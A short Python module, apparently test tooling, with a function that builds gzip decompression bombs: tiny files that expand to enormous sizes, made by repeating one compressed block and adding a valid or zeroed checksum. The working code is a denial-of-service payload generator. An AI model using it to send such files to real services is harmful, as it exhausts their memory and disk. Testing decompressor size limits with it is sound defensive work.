"""Generators of hostile compressed files, small on disk, made in milliseconds."""

import zlib


def gzip_bomb(
    head: bytes, chunk: bytes, copies: int, level: int = 9, checksum: bool = True
) -> bytes:
    """One gzip member that expands to ``head`` then ``chunk`` ``copies`` times, with a valid
    trailer (``checksum=False``: a zero CRC, which costs nothing to make and which a reader
    that stops at its limit never reaches). After a full flush the compressor starts afresh, so the compressed form of the
    chunk is the same every time: it is made once and repeated, never the expanded bytes."""
    pack = zlib.compressobj(level, zlib.DEFLATED, -15)  # raw deflate; gzip framing below
    start = pack.compress(head) + pack.flush(zlib.Z_FULL_FLUSH)
    block = pack.compress(chunk) + pack.flush(zlib.Z_FULL_FLUSH)
    again = pack.compress(chunk) + pack.flush(zlib.Z_FULL_FLUSH)
    assert again == block, "the compressed chunk is not reproducible"
    end = pack.flush()
    crc = zlib.crc32(head) if checksum else 0
    for _ in range(copies if checksum else 0):
        crc = zlib.crc32(chunk, crc)
    size = (len(head) + len(chunk) * copies) & 0xFFFFFFFF
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = crc.to_bytes(4, "little") + size.to_bytes(4, "little")
    return header + start + block * copies + end + trailer
